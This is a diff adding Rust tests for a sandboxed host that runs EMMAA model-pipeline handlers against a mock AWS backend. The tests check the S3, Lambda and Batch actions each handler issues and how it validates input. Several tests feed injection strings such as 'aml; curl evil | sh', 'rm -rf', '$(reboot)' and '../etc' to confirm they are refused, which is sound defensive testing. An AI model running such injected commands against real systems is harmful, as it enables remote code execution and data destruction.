@@ -1,0 +1,807 @@
+//! Every guest, run by the host against the in-memory backend: the exact
+//! actions each handler asks for under every rule of the handler contract,
+//! the three kinds of answer, and the sandbox a guest runs in.
+
+#[path = "support/guests.rs"]
+mod support;
+
+use emmaa_host::effects::{AwsError, ErrorKind};
+use serde_json::{Value, json};
+use support::{STAMP, actions, bucket, command, run, run_with, s3_event, settings};
+
+const DAILY: &str = r#"{"run_daily_update": true}"#;
+const OLD_DAILY: &str = r#"{"run_model_update": true}"#;
+const DAILY_TESTS: &str = r#"{"run_daily_update": false, "run_daily_tests": true}"#;
+const MAKES_TESTS: &str = r#"{"make_tests": true}"#;
+const IDLE: &str = r#"{"run_daily_update": "true", "make_tests": "yes"}"#;
+
+fn get(key: &str) -> Value {
+    json!({"op": "s3.get", "bucket": "emmaa", "key": key})
+}
+
+fn list_models() -> Value {
+    json!({"op": "s3.list", "bucket": "emmaa", "prefix": "models/", "delimiter": "/"})
+}
+
+fn invoke(function: &str, payload: Value) -> Value {
+    json!({"op": "lambda.invoke", "function_name": function, "invocation_type": "RequestResponse", "payload": payload})
+}
+
+fn submit(job_name: &str, purpose: &str, script: &str) -> Value {
+    json!({
+        "op": "batch.submit",
+        "job_name": job_name,
+        "job_queue": "emmaa-models-update-test",
+        "job_definition": "emmaa_jobdef",
+        "command": command(purpose, script),
+        "depends_on": []
+    })
+}
+
+fn refused(outcome: &emmaa_host::HandlerOutcome) -> Vec<(String, String)> {
+    let refused = outcome
+        .response
+        .as_ref()
+        .and_then(|r| r.get("refused"))
+        .cloned()
+        .unwrap_or(json!([]));
+    refused
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| {
+            (
+                r["item"].as_str().unwrap().to_owned(),
+                r["reason"].as_str().unwrap().to_owned(),
+            )
+        })
+        .collect()
+}
+
+fn success() -> Value {
+    json!({"statusCode": 200, "result": "SUCCESS"})
+}
+
+fn job_success(job_ids: &[&str]) -> Value {
+    json!({"statusCode": 200, "result": "SUCCESS", "job_id": job_ids.last().unwrap(), "job_ids": job_ids})
+}
+
+fn throttled() -> AwsError {
+    AwsError::new(ErrorKind::Throttled, "TooManyRequestsException", "Rate exceeded")
+}
+
+// ---- update_pipeline ----------------------------------------------------
+
+#[tokio::test]
+async fn update_pipeline_invokes_daily_models_and_rebuilds_daily_tests_models_in_s3_order() {
+    let effects = bucket(&[
+        ("models/rasmodel/config.json", IDLE),
+        ("models/aml/config.json", DAILY),
+        ("models/marm_model/config.json", DAILY_TESTS),
+        ("models/brca/config.json", OLD_DAILY),
+        ("models/aml/model_2020-01-01-00-00-00.pkl", ""),
+    ]);
+    let outcome = run("update_pipeline", json!({}), effects).await;
+    assert_eq!(outcome.response, Some(success()));
+    assert_eq!(
+        actions(&outcome),
+        json!([
+            list_models(),
+            get("models/aml/config.json"),
+            get("models/brca/config.json"),
+            get("models/marm_model/config.json"),
+            get("models/rasmodel/config.json"),
+            invoke("emmaa-model-update", json!({"model": "aml"})),
+            invoke("emmaa-model-update", json!({"model": "brca"})),
+            invoke(
+                "emmaa-mm-update",
+                s3_event(&["models/marm_model/model_2020-01-01-00-00-00.pkl"])
+            ),
+        ])
+    );
+}
+
+#[tokio::test]
+async fn update_pipeline_carries_on_past_missing_or_broken_configs_and_names_each_model() {
+    let effects = bucket(&[
+        ("models/aml/config.json", DAILY),
+        ("models/broken/config.json", "{not json"),
+        ("models/listy/config.json", "[true]"),
+        ("models/noconfig/model.pkl", ""),
+        ("models/zeta/config.json", DAILY),
+    ]);
+    let outcome = run("update_pipeline", json!({}), effects).await;
+    let response = outcome.response.clone().unwrap();
+    assert_eq!(
+        (response["statusCode"].clone(), response["result"].clone()),
+        (json!(207), json!("PARTIAL"))
+    );
+    let refused = refused(&outcome);
+    let items: Vec<&str> = refused.iter().map(|(item, _)| item.as_str()).collect();
+    assert_eq!(items, ["broken", "listy", "noconfig"]);
+    assert!(
+        refused[0]
+            .1
+            .starts_with("models/broken/config.json is not JSON: "),
+        "{}",
+        refused[0].1
+    );
+    assert_eq!(
+        refused[1].1,
+        "models/listy/config.json is not a JSON object: a list"
+    );
+    assert!(
+        refused[2]
+            .1
+            .starts_with("reading s3://emmaa/models/noconfig/config.json failed: NoSuchKey")
+    );
+    let invoked: Vec<Value> = outcome
+        .actions
+        .iter()
+        .filter_map(|a| match a {
+            emmaa_host::Action::LambdaInvoke { payload, .. } => Some(payload.clone()),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(invoked, [json!({"model": "aml"}), json!({"model": "zeta"})]);
+}
+
+#[tokio::test]
+async fn update_pipeline_fails_when_no_model_could_go_through() {
+    let effects = bucket(&[
+        ("models/aml/config.json", "nope"),
+        ("models/brca/config.json", ""),
+    ]);
+    let outcome = run("update_pipeline", json!({}), effects).await;
+    assert_eq!(outcome.response, None);
+    let error = outcome.error.unwrap();
+    assert!(error.contains("models/aml/config.json is not JSON"), "{error}");
+    assert!(error.contains("models/brca/config.json is not JSON"), "{error}");
+}
+
+#[tokio::test]
+async fn update_pipeline_refuses_listed_models_with_bad_names_without_reading_them() {
+    let effects = bucket(&[
+        ("models/aml/config.json", DAILY),
+        ("models/a;b/config.json", DAILY),
+    ]);
+    let outcome = run("update_pipeline", json!({}), effects).await;
+    assert_eq!(
+        refused(&outcome),
+        [(
+            "a;b".to_owned(),
+            "the model in the listed prefix \"models/a;b/\" \"a;b\" is not a valid model name: it must match ^[A-Za-z0-9][A-Za-z0-9_-]*$".to_owned()
+        )]
+    );
+    assert_eq!(
+        actions(&outcome),
+        json!([
+            list_models(),
+            get("models/aml/config.json"),
+            invoke("emmaa-model-update", json!({"model": "aml"}))
+        ])
+    );
+}
+
+#[tokio::test]
+async fn update_pipeline_reports_each_failed_invocation_and_keeps_the_others() {
+    let effects = bucket(&[
+        ("models/aml/config.json", DAILY),
+        ("models/brca/config.json", DAILY_TESTS),
+    ])
+    .failing_function("emmaa-mm-update", throttled());
+    let outcome = run("update_pipeline", json!({}), effects).await;
+    let refused = refused(&outcome);
+    assert_eq!(refused.len(), 1);
+    assert_eq!(refused[0].0, "brca");
+    assert!(
+        refused[0]
+            .1
+            .starts_with("invoking emmaa-mm-update with {\"Records\""),
+        "{}",
+        refused[0].1
+    );
+    assert!(
+        refused[0]
+            .1
+            .ends_with("failed: TooManyRequestsException: Rate exceeded"),
+        "{}",
+        refused[0].1
+    );
+    assert_eq!(outcome.status_code(), Some(207));
+}
+
+#[tokio::test]
+async fn update_pipeline_counts_an_error_inside_the_invoked_function_as_a_failure() {
+    let effects = bucket(&[("models/aml/config.json", DAILY)]).erroring_function(
+        "emmaa-model-update",
+        "Unhandled",
+        r#"{"errorType": "EmmaaEventRefused", "errorMessage": "boom"}"#,
+    );
+    let outcome = run("update_pipeline", json!({}), effects).await;
+    let error = outcome.error.unwrap();
+    assert!(error.contains("failed in the function (Unhandled)"), "{error}");
+    assert!(error.contains("boom"), "{error}");
+}
+
+#[tokio::test]
+async fn update_pipeline_succeeds_with_nothing_to_do_in_an_empty_bucket() {
+    let outcome = run("update_pipeline", json!({}), bucket(&[])).await;
+    assert_eq!(outcome.response, Some(success()));
+    assert_eq!(actions(&outcome), json!([list_models()]));
+}
+
+#[tokio::test]
+async fn update_pipeline_fails_when_the_listing_fails() {
+    let denied = AwsError::new(ErrorKind::Denied, "AccessDenied", "Access Denied");
+    let effects = bucket(&[("models/aml/config.json", DAILY)]).failing_key("models/", denied);
+    let outcome = run("update_pipeline", json!({}), effects).await;
+    assert_eq!(
+        outcome.error.as_deref(),
+        Some("listing the models in s3://emmaa/models/ failed: AccessDenied: Access Denied")
+    );
+    assert_eq!(actions(&outcome), json!([list_models()]));
+}
+
+#[tokio::test]
+async fn fan_out_uses_the_configured_prefix_bucket_and_invocation_type() {
+    let effects = bucket(&[("models/aml/config.json", DAILY)]);
+    let settings = settings(&[
+        ("EMMAA_FUNCTION_PREFIX", "dev-"),
+        ("EMMAA_INVOCATION_TYPE", "Event"),
+        ("EMMAA_BUCKET", "emmaa-dev"),
+    ]);
+    let outcome = run_with("update_pipeline", json!({}), effects, settings).await;
+    assert_eq!(outcome.response, Some(success()));
+    assert_eq!(
+        actions(&outcome),
+        json!([
+            {"op": "s3.list", "bucket": "emmaa-dev", "prefix": "models/", "delimiter": "/"},
+            {"op": "s3.get", "bucket": "emmaa-dev", "key": "models/aml/config.json"},
+            {"op": "lambda.invoke", "function_name": "dev-model-update", "invocation_type": "Event", "payload": {"model": "aml"}}
+        ])
+    );
+}
+
+// ---- test_update_pipeline -----------------------------------------------
+
+#[tokio::test]
+async fn test_update_pipeline_invokes_test_update_for_models_that_make_tests() {
+    let effects = bucket(&[
+        ("models/aml/config.json", DAILY),
+        ("models/covid19/config.json", MAKES_TESTS),
+        ("models/marm_model/config.json", MAKES_TESTS),
+        ("models/rasmodel/config.json", IDLE),
+    ]);
+    let outcome = run(
+        "test_update_pipeline",
+        json!({"detail-type": "Scheduled Event"}),
+        effects,
+    )
+    .await;
+    assert_eq!(outcome.response, Some(success()));
+    assert_eq!(
+        actions(&outcome),
+        json!([
+            list_models(),
+            get("models/aml/config.json"),
+            get("models/covid19/config.json"),
+            get("models/marm_model/config.json"),
+            get("models/rasmodel/config.json"),
+            invoke("emmaa-test-update", json!({"model": "covid19"})),
+            invoke("emmaa-test-update", json!({"model": "marm_model"})),
+        ])
+    );
+}
+
+// ---- after_update -------------------------------------------------------
+
+#[tokio::test]
+async fn after_update_invokes_stats_tests_queries_then_test_update_for_models_that_make_tests() {
+    let effects = bucket(&[("models/covid19/config.json", MAKES_TESTS)]);
+    let event = s3_event(&["results/covid19/model_manager_2020-02-04-12-30-00.pkl"]);
+    let outcome = run("after_update", event, effects).await;
+    assert_eq!(outcome.response, Some(success()));
+    let model = json!({"model": "covid19"});
+    assert_eq!(
+        actions(&outcome),
+        json!([
+            invoke("emmaa-model-stats", model.clone()),
+            invoke("emmaa-test-pipeline", model.clone()),
+            invoke("emmaa-queries", model.clone()),
+            get("models/covid19/config.json"),
+            invoke("emmaa-test-update", model),
+        ])
+    );
+}
+
+#[tokio::test]
+async fn after_update_still_invokes_the_three_when_the_config_cannot_be_read() {
+    let event = s3_event(&["results/aml/model_manager_2020-02-04-12-30-00.pkl"]);
+    let outcome = run("after_update", event, bucket(&[])).await;
+    assert_eq!(outcome.status_code(), Some(207));
+    assert_eq!(outcome.actions.len(), 4);
+    let refused = refused(&outcome);
+    assert_eq!(refused.len(), 1);
+    assert_eq!(refused[0].0, "aml");
+    assert!(
+        refused[0].1.contains("models/aml/config.json failed: NoSuchKey"),
+        "{}",
+        refused[0].1
+    );
+}
+
+#[tokio::test]
+async fn after_update_refuses_a_bad_record_and_handles_the_good_one() {
+    let effects = bucket(&[("models/aml/config.json", DAILY)]);
+    let event = s3_event(&[
+        "results/aml/model_manager_2020-02-04-12-30-00.pkl",
+        "results/aml/results_2020-02-04-12-30-00.json",
+    ]);
+    let outcome = run("after_update", event, effects).await;
+    assert_eq!(outcome.status_code(), Some(207));
+    assert_eq!(
+        refused(&outcome),
+        [(
+            "results/aml/results_2020-02-04-12-30-00.json".to_owned(),
+            "Records[1].s3.object.key \"results/aml/results_2020-02-04-12-30-00.json\" does not have the layout results/{model}/model_manager_{date}.pkl".to_owned()
+        )]
+    );
+    assert_eq!(outcome.actions.len(), 4);
+}
+
+// ---- test_pipeline ------------------------------------------------------
+
+async fn test_pipeline_with_config(config: &str) -> emmaa_host::HandlerOutcome {
+    let effects = bucket(&[("models/covid19/config.json", config)]);
+    run("test_pipeline", json!({"model": "covid19"}), effects).await
+}
+
+fn model_test(corpus: &str) -> Value {
+    invoke("emmaa-model-test", json!({"model": "covid19", "tests": corpus}))
+}
+
+#[tokio::test]
+async fn test_pipeline_invokes_a_model_test_per_corpus() {
+    let outcome = test_pipeline_with_config(
+        r#"{"test": {"test_corpus": ["large_corpus_tests", "covid19_curated_tests"]}}"#,
+    )
+    .await;
+    assert_eq!(outcome.response, Some(success()));
+    assert_eq!(
+        actions(&outcome),
+        json!([
+            get("models/covid19/config.json"),
+            model_test("large_corpus_tests"),
+            model_test("covid19_curated_tests")
+        ])
+    );
+}
+
+#[tokio::test]
+async fn test_pipeline_defaults_to_large_corpus_tests_and_accepts_a_single_string() {
+    let outcome = test_pipeline_with_config("{}").await;
+    assert_eq!(actions(&outcome)[1], model_test("large_corpus_tests"));
+    let outcome = test_pipeline_with_config(r#"{"test": {"test_corpus": "covid19_mitre_tests"}}"#).await;
+    assert_eq!(actions(&outcome)[1], model_test("covid19_mitre_tests"));
+}
+
+#[tokio::test]
+async fn test_pipeline_runs_no_test_for_an_empty_corpus_list() {
+    let outcome = test_pipeline_with_config(r#"{"test": {"test_corpus": []}}"#).await;
+    assert_eq!(outcome.response, Some(success()));
+    assert_eq!(actions(&outcome), json!([get("models/covid19/config.json")]));
+}
+
+#[tokio::test]
+async fn test_pipeline_refuses_bad_corpora_and_tests_the_rest() {
+    let outcome = test_pipeline_with_config(r#"{"test": {"test_corpus": ["good", "rm -rf", 3]}}"#).await;
+    assert_eq!(outcome.status_code(), Some(207));
+    assert_eq!(
+        actions(&outcome),
+        json!([get("models/covid19/config.json"), model_test("good")])
+    );
+    let refused = refused(&outcome);
+    assert_eq!(refused[0].0, "rm -rf");
+    assert!(
+        refused[0]
+            .1
+            .starts_with("models/covid19/config.json test.test_corpus[1] \"rm -rf\"")
+    );
+    assert_eq!(
+        refused[1].1,
+        "models/covid19/config.json test.test_corpus[2] must be a string, got 3"
+    );
+}
+
+#[tokio::test]
+async fn test_pipeline_fails_without_a_config_or_with_a_corpus_of_the_wrong_type() {
+    let outcome = run("test_pipeline", json!({"model": "covid19"}), bucket(&[])).await;
+    assert!(
+        outcome
+            .error
+            .unwrap()
+            .contains("models/covid19/config.json failed: NoSuchKey")
+    );
+    let outcome = test_pipeline_with_config(r#"{"test": {"test_corpus": {"a": 1}}}"#).await;
+    assert_eq!(
+        outcome.error.unwrap(),
+        "models/covid19/config.json test.test_corpus must be a string or a list of strings, got {\"a\":1}"
+    );
+}
+
+#[tokio::test]
+async fn test_pipeline_refuses_a_bad_model_before_reading_anything() {
+    let outcome = run("test_pipeline", json!({"model": "../etc"}), bucket(&[])).await;
+    assert!(
+        outcome
+            .error
+            .unwrap()
+            .starts_with("model \"../etc\" is not a valid model name")
+    );
+    assert!(outcome.actions.is_empty());
+}
+
+// ---- the Batch handlers -------------------------------------------------
+
+#[tokio::test]
+async fn model_updates_submits_the_update_job() {
+    let outcome = run("model_updates", json!({"model": "aml"}), bucket(&[])).await;
+    let job_name = format!("aml_update_{STAMP}");
+    assert_eq!(
+        outcome.response,
+        Some(job_success(&[&format!("local-{job_name}")]))
+    );
+    assert_eq!(
+        actions(&outcome),
+        json!([submit(
+            &job_name,
+            "update-emmaa-models",
+            "python scripts/run_model_update.py --model aml"
+        )])
+    );
+}
+
+#[tokio::test]
+async fn model_stats_queries_and_test_update_submit_their_jobs() {
+    let cases = [
+        (
+            "model_stats",
+            "model_stats",
+            "update-emmaa-model-stats",
+            "python scripts/run_model_stats_from_s3.py --model aml --stats_mode model",
+        ),
+        (
+            "model_queries",
+            "queries",
+            "update-emmaa-queries",
+            "python scripts/answer_queries_from_s3.py --model aml",
+        ),
+        (
+            "test_update",
+            "test_update",
+            "update-emmaa-tests",
+            "python scripts/model_to_tests.py --model aml",
+        ),
+    ];
+    for (guest, name, purpose, script) in cases {
+        let outcome = run(guest, json!({"model": "aml"}), bucket(&[])).await;
+        assert_eq!(outcome.status_code(), Some(200), "{guest}");
+        assert_eq!(
+            actions(&outcome),
+            json!([submit(&format!("aml_{name}_{STAMP}"), purpose, script)]),
+            "{guest}"
+        );
+    }
+}
+
+#[tokio::test]
+async fn model_tests_submits_the_test_job_for_the_corpus() {
+    let outcome = run(
+        "model_tests",
+        json!({"model": "covid19", "tests": "covid19_curated_tests"}),
+        bucket(&[]),
+    )
+    .await;
+    assert_eq!(
+        actions(&outcome),
+        json!([submit(
+            &format!("covid19_covid19_curated_tests_tests_{STAMP}"),
+            "update-emmaa-results",
+            "python scripts/run_model_tests_from_s3.py --model covid19 --tests covid19_curated_tests"
+        )])
+    );
+}
+
+#[tokio::test]
+async fn model_tests_refuses_bad_model_and_corpus_naming_both() {
+    let outcome = run(
+        "model_tests",
+        json!({"model": "a b", "tests": "$(reboot)"}),
+        bucket(&[]),
+    )
+    .await;
+    let error = outcome.error.unwrap();
+    assert!(
+        error.contains("model \"a b\" is not a valid model name"),
+        "{error}"
+    );
+    assert!(
+        error.contains("tests \"$(reboot)\" is not a valid test corpus name"),
+        "{error}"
+    );
+    assert!(outcome.actions.is_empty());
+    let outcome = run("model_tests", json!({"model": "aml"}), bucket(&[])).await;
+    assert!(
+        outcome
+            .error
+            .unwrap()
+            .starts_with("the event has no \"tests\" field")
+    );
+}
+
+#[tokio::test]
+async fn batch_handlers_refuse_a_bad_model_event_naming_field_and_value() {
+    for guest in ["model_updates", "model_stats", "model_queries", "test_update"] {
+        let outcome = run(guest, json!({"model": "aml; curl evil | sh"}), bucket(&[])).await;
+        assert_eq!(outcome.response, None);
+        assert_eq!(
+            outcome.error.as_deref(),
+            Some(
+                "model \"aml; curl evil | sh\" is not a valid model name: it must match ^[A-Za-z0-9][A-Za-z0-9_-]*$"
+            ),
+            "{guest}"
+        );
+        assert!(outcome.actions.is_empty(), "{guest}");
+        let outcome = run(guest, json!({"model": 42}), bucket(&[])).await;
+        assert_eq!(
+            outcome.error.as_deref(),
+            Some("model must be a string, got 42"),
+            "{guest}"
+        );
+    }
+}
+
+#[tokio::test]
+async fn large_models_get_the_large_queue_and_definition() {
+    let settings = settings(&[("EMMAA_LARGE_MODELS", "covid19, aml")]);
+    let outcome = run_with("model_updates", json!({"model": "aml"}), bucket(&[]), settings).await;
+    let submitted = &actions(&outcome)[0];
+    assert_eq!(submitted["job_queue"], "emmaa-after-update");
+    assert_eq!(submitted["job_definition"], "emmaa_testing_jobs_def");
+}
+
+#[tokio::test]
+async fn an_empty_branch_drops_the_branch_option() {
+    let settings = settings(&[("EMMAA_BRANCH", ""), ("EMMAA_PROJECT", "emmaa")]);
+    let outcome = run_with("model_queries", json!({"model": "aml"}), bucket(&[]), settings).await;
+    assert_eq!(
+        actions(&outcome)[0]["command"],
+        json!([
+            "python",
+            "-m",
+            "indra.util.aws",
+            "run_in_batch",
+            "--project",
+            "emmaa",
+            "--purpose",
+            "update-emmaa-queries",
+            "bash scripts/git_and_run.sh python scripts/answer_queries_from_s3.py --model aml"
+        ])
+    );
+}
+
+#[tokio::test]
+async fn a_job_name_longer_than_batch_allows_is_refused() {
+    // `{model}_update_{STAMP}` adds 23 characters to the model name.
+    let longest = "m".repeat(105);
+    let outcome = run("model_updates", json!({ "model": longest }), bucket(&[])).await;
+    assert_eq!(actions(&outcome)[0]["job_name"].as_str().map(str::len), Some(128));
+    let too_long = "m".repeat(106);
+    let outcome = run("model_updates", json!({ "model": too_long }), bucket(&[])).await;
+    let error = outcome.error.unwrap();
+    assert!(
+        error.contains("is 129 characters long; AWS Batch allows at most 128"),
+        "{error}"
+    );
+    assert!(outcome.actions.is_empty());
+}
+
+#[tokio::test]
+async fn a_refused_submission_is_reported_with_the_queue_and_aws_reason() {
+    let effects = bucket(&[]).failing_queue(
+        "emmaa-models-update-test",
+        AwsError::new(
+            ErrorKind::Rejected,
+            "ClientException",
+            "Job Queue emmaa-models-update-test does not exist",
+        ),
+    );
+    let outcome = run("model_updates", json!({"model": "aml"}), effects).await;
+    assert_eq!(
+        outcome.error.unwrap(),
+        format!(
+            "submitting job \"aml_update_{STAMP}\" to queue \"emmaa-models-update-test\" failed: \
+             ClientException: Job Queue emmaa-models-update-test does not exist"
+        )
+    );
+}
+
+#[tokio::test]
+async fn model_manager_update_submits_one_job_per_record() {
+    let event = s3_event(&[
+        "models/aml/model_2020-02-04-12-00-00.pkl",
+        "models/brca/model_2020-02-04-12-00-01.pkl",
+    ]);
+    let outcome = run("model_manager_update", event, bucket(&[])).await;
+    let ids = [
+        format!("local-aml_mm_update_{STAMP}"),
+        format!("local-brca_mm_update_{STAMP}"),
+    ];
+    assert_eq!(outcome.response, Some(job_success(&[&ids[0], &ids[1]])));
+    assert_eq!(
+        actions(&outcome),
+        json!([
+            submit(
+                &format!("aml_mm_update_{STAMP}"),
+                "update-emmaa-model-manager",
+                "python scripts/update_model_manager.py --model aml"
+            ),
+            submit(
+                &format!("brca_mm_update_{STAMP}"),
+                "update-emmaa-model-manager",
+                "python scripts/update_model_manager.py --model brca"
+            ),
+        ])
+    );
+}
+
+#[tokio::test]
+async fn model_manager_update_keeps_the_good_records_of_an_event_with_bad_ones() {
+    let event = json!({"Records": [
+        {"s3": {"object": {"key": "models/a%3Bb/model_2020-02-04-12-00-00.pkl"}}},
+        {"s3": {"object": {"key": "models/aml/model_2020-02-04-12-00-00.pkl"}}},
+        {"s3": {"bucket": {"name": "emmaa"}}},
+        {"s3": {"object": {"key": "models/aml/config.json"}}},
+        {"s3": {"object": {"key": "models/my+model/model.pkl"}}},
+    ]});
+    let outcome = run("model_manager_update", event, bucket(&[])).await;
+    assert_eq!(outcome.status_code(), Some(207));
+    assert_eq!(outcome.actions.len(), 1);
+    assert_eq!(actions(&outcome)[0]["job_name"], format!("aml_mm_update_{STAMP}"));
+    let reasons: Vec<String> = refused(&outcome).into_iter().map(|(_, reason)| reason).collect();
+    assert_eq!(reasons.len(), 4);
+    assert!(
+        reasons[0].starts_with(
+            "the model in Records[0].s3.object.key \"models/a;b/model_2020-02-04-12-00-00.pkl\" \"a;b\""
+        ),
+        "{}",
+        reasons[0]
+    );
+    assert_eq!(reasons[1], "Records[2].s3.object.key is missing");
+    assert!(
+        reasons[2].contains("does not have the layout models/{model}/{file}.pkl"),
+        "{}",
+        reasons[2]
+    );
+    assert!(
+        reasons[3].contains("\"my model\" is not a valid model name"),
+        "{}",
+        reasons[3]
+    );
+    assert_eq!(
+        outcome.response.unwrap()["job_ids"],
+        json!([format!("local-aml_mm_update_{STAMP}")])
+    );
+}
+
+#[tokio::test]
+async fn model_manager_update_decodes_keys_before_validating() {
+    let event = s3_event(&["models/marm%5Fmodel/model_2020-01-01-00-00-00.pkl"]);
+    let outcome = run("model_manager_update", event, bucket(&[])).await;
+    assert_eq!(
+        actions(&outcome)[0]["job_name"],
+        format!("marm_model_mm_update_{STAMP}")
+    );
+}
+
+#[tokio::test]
+async fn s3_handlers_fail_on_an_event_without_records() {
+    for guest in ["model_manager_update", "after_update", "test_stats"] {
+        let outcome = run(guest, json!({"model": "aml"}), bucket(&[])).await;
+        assert!(
+            outcome
+                .error
+                .unwrap()
+                .starts_with("the event has no \"Records\" list"),
+            "{guest}"
+        );
+        assert!(outcome.actions.is_empty());
+    }
+}
+
+#[tokio::test]
+async fn test_stats_reads_the_corpus_from_the_results_key() {
+    let event = s3_event(&[
+        "results/covid19/results_covid19_curated_tests_2020-02-04-14-00-00.json",
+        "results/aml/results_2020-02-04-14-00-00.json",
+    ]);
+    let outcome = run("test_stats", event, bucket(&[])).await;
+    assert_eq!(outcome.status_code(), Some(200));
+    assert_eq!(
+        actions(&outcome),
+        json!([
+            submit(
+                &format!("covid19_covid19_curated_tests_stats_{STAMP}"),
+                "update-emmaa-test-stats",
+                "python scripts/run_model_stats_from_s3.py --model covid19 --stats_mode tests --tests covid19_curated_tests"
+            ),
+            submit(
+                &format!("aml_large_corpus_tests_stats_{STAMP}"),
+                "update-emmaa-test-stats",
+                "python scripts/run_model_stats_from_s3.py --model aml --stats_mode tests --tests large_corpus_tests"
+            ),
+        ])
+    );
+}
+
+#[tokio::test]
+async fn test_stats_refuses_a_corpus_that_is_not_a_valid_name() {
+    let event = s3_event(&["results/aml/results_x%26y_2020-02-04-14-00-00.json"]);
+    let outcome = run("test_stats", event, bucket(&[])).await;
+    let error = outcome.error.unwrap();
+    assert!(
+        error.contains("\"x&y\" is not a valid test corpus name"),
+        "{error}"
+    );
+    assert!(outcome.actions.is_empty());
+}
+
+// ---- the sandbox --------------------------------------------------------
+
+#[tokio::test]
+async fn a_guest_cannot_reach_files_environment_network_clocks_or_stdout() {
+    for target in [
+        "files",
+        "environment",
+        "arguments",
+        "clock",
+        "monotonic-clock",
+        "network",
+        "stdout",
+    ] {
+        let outcome = run("sandbox_probe", json!({ "reach": target }), bucket(&[])).await;
+        assert_eq!(
+            outcome.response, None,
+            "the guest reached {target}: {:?}",
+            outcome.response
+        );
+        let error = outcome.error.unwrap();
+        assert!(
+            error.starts_with("the guest failed (trapped)"),
+            "{target}: {error}"
+        );
+    }
+}
+
+#[tokio::test]
+async fn a_guest_gets_the_same_hash_seed_every_time() {
+    let first = run("sandbox_probe", json!({"reach": "hash-seed"}), bucket(&[])).await;
+    let second = run("sandbox_probe", json!({"reach": "hash-seed"}), bucket(&[])).await;
+    let seed = first.response.unwrap()["reached"].clone();
+    assert!(seed.is_string());
+    assert_eq!(second.response.unwrap()["reached"], seed);
+}
+
+#[tokio::test]
+async fn the_same_event_gives_the_same_actions_and_answer() {
+    let effects = || {
+        bucket(&[
+            ("models/aml/config.json", DAILY),
+            ("models/brca/config.json", DAILY_TESTS),
+        ])
+    };
+    let first = run("update_pipeline", json!({}), effects()).await;
+    let second = run("update_pipeline", json!({}), effects()).await;
+    assert_eq!(first, second);
+}
